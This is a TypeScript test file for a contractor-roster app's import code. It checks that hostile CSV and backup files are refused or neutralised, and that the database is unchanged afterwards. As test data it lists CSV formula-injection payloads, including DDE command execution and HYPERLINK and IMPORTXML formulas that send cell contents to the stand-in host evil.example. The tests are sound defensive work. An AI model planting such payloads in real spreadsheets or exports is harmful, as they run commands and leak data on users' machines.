import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { backupText, checkBackupSize, exportBackup, readBackup } from '../../storage/backup';
import { addNote } from '../../storage/contractors';
import {
  contractorsCsv,
  csvContractors,
  eventsCsv,
  importCsvContractors,
  type ProfileOf,
  parseCsv,
} from '../../storage/csv';
import { TrackRecordDb } from '../../storage/db';
import { seedDemo } from '../../storage/demo';
import { readText } from '../../storage/text-file';

// Hostile files offered to the imports: a formula in every cell, a gigabyte, bytes that are not UTF-8,
// nesting and repetition meant to exhaust the reader. Each is refused with a message that names the line
// or the record, or — formulas, which are only text to the extension — kept as text and neutralised in
// every spreadsheet written. The database is the same afterwards. (The end-to-end test,
// tests/e2e/hostile-files.e2e.ts, offers them to the roster's real Import buttons.)

const now = Date.UTC(2026, 10, 27, 12);
let db: TrackRecordDb;
beforeEach(async () => {
  db = new TrackRecordDb(`hostile-files-${crypto.randomUUID()}`);
  await seedDemo(db, now);
});
afterEach(async () => {
  await db.delete();
});

/** The whole database as a backup's text: equal before and after means nothing was written. */
const snapshot = async () => backupText(await exportBackup(db, now));
const bytes = (text: string) => new TextEncoder().encode(text);
const read = (data: Uint8Array<ArrayBuffer>) => readText(new Blob([data]).stream());

/** Cells a spreadsheet would run: formulas, DDE, and the prefixes Excel, LibreOffice and Sheets read as one. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A2;"Open")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?";A2);"//a")',
  "-2+3+cmd|' /C notepad'!A0",
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

describe('a CSV with a formula in every cell', () => {
  const file = Papa.unparse([
    FORMULAS.slice(0, 5),
    ...FORMULAS.map((f, i) => FORMULAS.map((_, j) => FORMULAS[(i + j) % FORMULAS.length] ?? f).slice(0, 5)),
  ]);
  const webOnly: ProfileOf = (text) =>
    /^https?:\/\/[\w.-]+\//.test(text) ? { platform: 'web', id: text, key: `web:${text}`, url: text } : null;

  it('refuses a formula where an address must be, naming the line', () => {
    const table = parseCsv(file);
    expect(() => csvContractors(table, { name: 0, profiles: 4 }, webOnly)).toThrow(
      /^line 2, profiles: "[^"]*" is not a web address/,
    );
  });

  it('keeps formulas as the text they are, and writes none back to a spreadsheet that would run it', async () => {
    const table = parseCsv(file);
    const list = csvContractors(table, { name: 0, skills: 1, tags: 2, notes: 3 }, webOnly);
    expect(list).toHaveLength(FORMULAS.length);
    await importCsvContractors(db, list, now);
    const names = (await db.contractors.toArray()).map((c) => c.name);
    // Stored as text (the records trim white space, so "\t=1+1" is kept as "=1+1").
    for (const f of FORMULAS) expect(names).toContain(f.trim());
    for (const csv of [await contractorsCsv(db, now), await eventsCsv(db)]) {
      const cells = Papa.parse<string[]>(csv).data.flat();
      const formulaCells = cells.filter((c) => FORMULAS.some((f) => c.includes(f.trim())));
      expect(formulaCells.length).toBeGreaterThan(5);
      // Every cell a spreadsheet would run starts with a ' instead: shown as text.
      expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
      for (const c of formulaCells) expect(c.startsWith("'") || !DANGEROUS_START.test(c.trim())).toBe(true);
    }
  });
});

describe('a gigabyte file', () => {
  it('is refused by its size alone, before a byte of it is read', () => {
    const gigabyte = 1024 ** 3;
    expect(() => checkBackupSize('roster.json', gigabyte)).toThrow(
      /^roster\.json is 1,024 MB: backups of up to 300 MB can be imported/,
    );
  });
});

describe('bytes that are not UTF-8', () => {
  it('refuse a backup and a CSV, naming the line, before anything is parsed', async () => {
    const before = await snapshot();
    const backup = bytes(await snapshot());
    // A Latin-1 "é" in the middle of the file, on the line it falls on.
    const lines = new TextDecoder()
      .decode(backup)
      .replace(/,"name":"Lee Designer"/, ',\n"name":"Lee D\u00e9signer"');
    const encoded = bytes(lines);
    const at = encoded.indexOf(0xc3); // the é, as UTF-8 (C3 A9); Latin-1 writes it as E9 alone
    const latin1 = Uint8Array.from([...encoded.slice(0, at), 0xe9, ...encoded.slice(at + 2)]);
    await expect(read(latin1)).rejects.toThrow(/^line 2 \(byte [\d,]+\) is not UTF-8 text/);
    const csv = Uint8Array.from([...bytes('Name,Note\r\nAda,fine\r\nZo'), 0xeb, ...bytes(',late\r\n')]);
    await expect(read(csv)).rejects.toThrow(/^line 3 \(byte 24\) is not UTF-8 text/);
    expect(await snapshot()).toBe(before);
  });
});

describe('nesting and repetition meant to exhaust the reader', () => {
  const refused = async (text: string, message: RegExp) => {
    const before = await snapshot();
    await expect(readBackup(text)).rejects.toThrow(message);
    expect(await snapshot()).toBe(before);
  };
  const withContractor = async (field: string) => {
    const good = await snapshot();
    return (text: string) => good.replace('"name":"Dana Demo"', `"name":"Dana Demo","${field}":${text}`);
  };

  it('refuses a million lists inside each other where a record has a field, naming where', async () => {
    const deep = `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`;
    await refused(
      (await withContractor('name'))(deep).replace('"name":"Dana Demo",', ''),
      /^contractors\.\d+\.name\.0\.0\.0.*: nested deeper than any record is/,
    );
    // In a field no record has, and as objects, the same: refused before anything walks it.
    const objects = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
    await refused(
      (await withContractor('extra'))(objects),
      /^contractors\.\d+\.extra\.a\.a.*: nested deeper than any record is/,
    );
  });

  it('refuses a list of a million inside one record, naming the record', async () => {
    const milestones = JSON.parse(await snapshot()).milestones as { renegotiations: unknown[] }[];
    expect(milestones.length).toBeGreaterThan(0);
    const good = JSON.parse(await snapshot());
    good.milestones[0].renegotiations = Array.from({ length: 1_000_000 }, () => ({ at: now, dueAt: now }));
    await refused(
      JSON.stringify(good),
      /^milestones\.0\.renegotiations: a list of 1,000,000 items is longer than any record holds/,
    );
  });

  it('takes a record with 100,000 keys it does not know, and keeps none of them', async () => {
    const extra = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, i]));
    const good = JSON.parse(await snapshot());
    Object.assign(good.contractors[0], extra);
    const backup = await readBackup(JSON.stringify(good));
    expect(Object.keys(backup.contractors[0] ?? {}).some((k) => /^k\d+$/.test(k))).toBe(false);
  });

  it('refuses a CSV of a million columns, or a cell longer than any field, naming the line', () => {
    expect(() => parseCsv(`Name${',x'.repeat(1_000_000)}\r\nAda\r\n`)).toThrow(
      /^line 1 has 1,000,001 columns; a list of contractors has at most 200/,
    );
    expect(() => parseCsv(`Name,Note\r\nAda,fine\r\nBo,"${'ha'.repeat(500_000)}"\r\n`)).toThrow(
      /^line 3, column 2: a text of 1,000,000 characters is longer than any field holds/,
    );
    expect(() => parseCsv(`Name,Note\r\nAda,"never closed${'\r\nx'.repeat(100_000)}`)).toThrow(/^line 2: /);
  });

  it('adds nothing when refused: notes written before stay, nothing of the file arrives', async () => {
    const dana = (await db.contractors.toArray()).find((c) => c.name === 'Dana Demo');
    await addNote(db, dana?.id as string, 'written before the import', now);
    const before = await snapshot();
    const table = parseCsv('Name,Profile\r\nNew Person,https://example.com/new\r\nBad,=1+1\r\n');
    expect(() => csvContractors(table, { name: 0, profiles: 1 }, () => null)).toThrow(/line 2, profiles/);
    expect(await snapshot()).toBe(before);
  });
});
